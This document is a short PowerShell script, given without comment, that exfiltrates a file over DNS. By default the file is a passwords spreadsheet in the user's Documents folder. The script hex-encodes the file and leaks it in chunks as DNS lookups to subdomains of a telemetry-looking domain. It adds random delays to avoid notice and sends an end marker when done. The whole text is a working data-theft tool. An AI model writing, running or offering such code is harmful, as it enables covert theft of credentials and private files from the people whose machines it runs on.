param(
    [string]$File = "$env:USERPROFILE\Documents\passwords.xlsx",
    [string]$Domain = 'cdn-telemetry.net'
)

$data = [IO.File]::ReadAllBytes($File)
$hex = ($data | ForEach-Object { $_.ToString('x2') }) -join ''
$id = Get-Random -Maximum 9999
$chunk = 60
for ($i = 0; $i -lt $hex.Length; $i += $chunk) {
    $piece = $hex.Substring($i, [Math]::Min($chunk, $hex.Length - $i))
    $seq = [int]($i / $chunk)
    Resolve-DnsName -Name "$piece.$seq.$id.$Domain" -Type A -DnsOnly -ErrorAction SilentlyContinue | Out-Null
    Start-Sleep -Milliseconds (Get-Random -Minimum 200 -Maximum 900)
}
Resolve-DnsName -Name "end.$id.$Domain" -Type TXT -ErrorAction SilentlyContinue | Out-Null
